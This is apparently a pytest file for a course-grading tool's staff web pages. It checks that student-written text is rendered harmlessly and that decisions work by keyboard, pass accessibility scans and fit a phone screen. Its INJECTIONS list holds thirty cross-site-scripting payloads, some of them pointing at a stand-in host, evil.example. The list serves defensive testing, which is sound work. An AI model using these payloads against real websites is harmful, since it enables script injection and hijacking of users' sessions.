"""Staff's pages in a browser: code that stays text whatever it holds, and decisions made by keyboard or on a phone."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Callable, Iterator
from fractions import Fraction
from pathlib import Path
from typing import Any

import msgspec
import pytest

from grader.batch import staff_page
from grader.batch.bench import Bench
from grader.batch.decide_server import Server
from grader.batch.deciding import Decisions
from grader.grading import config
from grader.reports import listing
from grader.reports.work import Asked, Work
from grader.submissions.people import Person
from tests.browser.conftest import LEVELS, PHONE, Opened
from tests.browser.planted import CRASHED, FORGOTTEN, RIGHT, graded, renamed
from tests.conftest import ROOT

EVIL = "document.title='owned'"
INJECTIONS = (
    f"</script><script>{EVIL}</script>",
    f"<img src=x onerror={EVIL}>",
    f'"><img src=x onerror="{EVIL}">',
    f"'><svg onload={EVIL}>",
    f"<svg><script>{EVIL}</script></svg>",
    f"</style><script>{EVIL}</script>",
    f"</title><script>{EVIL}</script>",
    f"</textarea><script>{EVIL}</script>",
    f"</pre></code><iframe srcdoc='<script>parent.{EVIL}</script>'></iframe>",
    f'<a href="javascript:{EVIL}" autofocus onfocus={EVIL}>x</a>',
    f"<details open ontoggle={EVIL}>",
    f"<body onload={EVIL}>",
    f"<input autofocus onfocus={EVIL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={EVIL}>",
    f'<object data="javascript:{EVIL}"></object>',
    f'<embed src="javascript:{EVIL}">',
    f'<base href="http://evil.example/"><script src=x.js></script>{EVIL}',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=http://evil.example/><button autofocus>x</button></form>",
    "<template><script>1</script></template>",
    f"{{{{ 7 * 7 }}}}{{% raw %}}<script>{EVIL}</script>",
    f"${{{EVIL}}}`<script>{EVIL}</script>`",
    f"<!--><script>{EVIL}</script>-->",
    f"]]><script>{EVIL}</script>",
    f"&lt;script&gt;{EVIL}&lt;/script&gt;&#60;img src=x onerror={EVIL}&#62;",
    f"\u202e<script>{EVIL}</script>\u202d\x1b[31m\x07",
    f"<ſcript>{EVIL}</ſcript><\x00script>{EVIL}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={EVIL}>"></noscript>',
)


def test_there_are_thirty() -> None:
    assert len({*INJECTIONS}) == 30


def hostile(text: str) -> str:
    """Return the page of a student whose files, names, comments and exceptions hold a text."""
    source = f'"""{text}\n"""\n# {text}\nclass Square:\n    x = {text!r}\n\n\n{text}\n'
    raised = msgspec.structs.replace(CRASHED, said=text, reason=text, place=f"{text}.py:5: {text}")
    result = renamed(graded("x", raised, FORGOTTEN, RIGHT), text.replace("/", ""))
    first = result.exercises[0].id
    kept = Work(result.digest, {f"{text}.py": source}, {first: Asked(f"{text}.py", ("Square", text))}, (text,))
    return staff_page.html(result, kept, [Person(name=text, email=text)])


@pytest.mark.parametrize("number", range(len(INJECTIONS)))
def test_whatever_a_student_writes_stays_text(number: int, tmp_path: Path, opened: Opened) -> None:
    path = tmp_path / "page.html"
    path.write_text(hostile(INJECTIONS[number]), "utf-8")
    page = opened(path)  # it complains of requests, errors, dialogs, and of what the policy had to stop
    assert page.title() != "owned"
    parts = "script, iframe, object, embed, base, link, form, img, template, math, noscript, input"
    assert page.locator(parts).count() == 1, "our own script alone"
    assert (
        page.locator("*").evaluate_all("all => all.flatMap(e => e.getAttributeNames()).filter(n => /^on/.test(n))")
        == []
    )
    shown = page.locator(".code").last.inner_text()
    for line in INJECTIONS[number].splitlines():
        assert listing.inert(line) in shown


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, sample_reports: Callable[[str], Path]) -> Iterator[Server]:
    """Decisions about the sample class, served."""
    folder = tmp_path_factory.mktemp("course")
    for name in ("exercises", "reference"):
        shutil.copytree(ROOT / name, folder / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "config.yaml", folder)
    shutil.copytree(sample_reports("cohort"), folder / "reports")
    assignment = config.load(folder / "config.yaml")
    table = Bench(assignment, folder / "reports")
    decisions = Decisions(assignment.overrides, folder / "reports", table.graded.exercises)
    one = Server(table, decisions, lambda: "Written.")
    threading.Thread(target=one.serve_forever, daemon=True).start()
    yield one
    one.shutdown()
    one.server_close()


@pytest.fixture
def visited(browser: Any, server: Server) -> Iterator[Callable[..., Any]]:
    """Open pages of the server that must not complain, nor ask anybody else."""
    contexts, complaints = [], []

    def goto(path: str, **context: Any) -> Any:
        contexts.append(browser.new_context(**context))
        page = contexts[-1].new_page()
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on(
            "request",
            lambda sent: complaints.append(sent.url) if not sent.url.startswith(server.url) else None,
        )
        page.goto(server.url + path)
        return page

    yield goto
    for context in contexts:
        context.close()
    assert complaints == []


MISTAKE = "mistake?exercise=square&mistake=d_out+was+forgotten"


def test_a_decision_is_made_by_keyboard_alone_and_taken_back(visited: Callable[..., Any], server: Server) -> None:
    page = visited(MISTAKE)
    assert page.get_by_text("1 of 44 students lost points in this exercise to it").count() == 1
    comment = page.get_by_label("Comment for everyone who made it")
    comment.focus()
    page.keyboard.type("See slide 12.")
    page.keyboard.press("Tab")
    page.keyboard.type("3")
    page.keyboard.press("Enter")
    page.wait_for_selector("#effects")
    assert page.locator(".effects tbody tr").inner_text().split() == ["u2001", "32", "34", "See", "slide", "12."]
    page.get_by_role("button", name="Decide this").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")  # an impatient one sends the same form once more
    page.wait_for_url("**/log?done")
    assert server.decisions.text().count("points: 3") == 1
    page.get_by_role("button", name="Undo").focus()
    page.keyboard.press("Enter")
    page.wait_for_selector("text=undone")
    assert server.decisions.text() == ""


@pytest.mark.ci
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("path", ["", "?who=u20", MISTAKE, "student?student=u2001", "student?student=u3002", "log"])
def test_axe_finds_nothing_on_pages_of_decisions(path: str, scheme: str, visited: Callable[..., Any]) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="axe is not installed")
    page = visited(path, color_scheme=scheme)
    found = axe.Axe().run(page, options={"runOnly": LEVELS}).response
    assert [(one["id"], [node["html"] for node in one["nodes"]]) for one in found["violations"]] == []


@pytest.mark.ci
@pytest.mark.parametrize("path", ["", MISTAKE, "student?student=u2001", "log"])
def test_a_phone_shows_decisions_without_scrolling_sideways(path: str, visited: Callable[..., Any]) -> None:
    page = visited(path, **PHONE)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_comments_stay_text_on_every_page(visited: Callable[..., Any], server: Server) -> None:
    text = "\n".join(INJECTIONS[:8])
    page = visited(MISTAKE)
    page.get_by_label("Comment for everyone who made it").fill(text)
    page.get_by_role("button", name="See what changes").click()
    page.wait_for_selector("#effects")
    assert page.get_by_label("Comment for").last.input_value() == text
    page.get_by_role("button", name="Decide this").click()
    page.wait_for_url("**/log?done")
    assert page.locator("td.text").first.inner_text() == text
    page.goto(server.url + "student?student=u2001")
    assert page.locator(".notice.text").first.inner_text() == text
    assert page.title() != "owned"
    assert server.bench.marks(server.decisions.text()).standings[0].possible == Fraction(35)
    server.decisions.undo(server.decisions.standing()[-1].key, "undone")
